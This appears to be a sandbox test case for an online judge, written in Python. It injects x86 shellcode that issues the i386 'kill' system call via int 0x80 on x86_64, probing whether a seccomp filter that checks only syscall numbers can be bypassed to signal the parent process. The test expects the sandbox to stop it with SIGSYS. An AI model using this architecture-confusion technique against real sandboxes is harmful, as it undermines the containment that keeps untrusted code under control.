# attack: makes system calls by the numbers of i386, with int 0x80
# verdicts: RTE
# message: SIGSYS|no such instruction
# control: answers on x86_64
# A filter that looks at the number only takes i386's 37, which is kill, for x86-64's 37, which is alarm. It asks whether
# it may signal its parent; on another machine there is no such instruction.
import ctypes
import mmap
import os

if os.uname().machine == "x86_64":
    CODE = b"\x53\xb8\x25\0\0\0\xbb" + os.getppid().to_bytes(4, "little") + b"\x31\xc9\xcd\x80\x5b\xc3"
else:
    CODE = b""


def solution(numbers):
    if not CODE:
        raise NotImplementedError("no such instruction here")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    kill = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = kill()
    return [2 * number for number in numbers if result == 0]
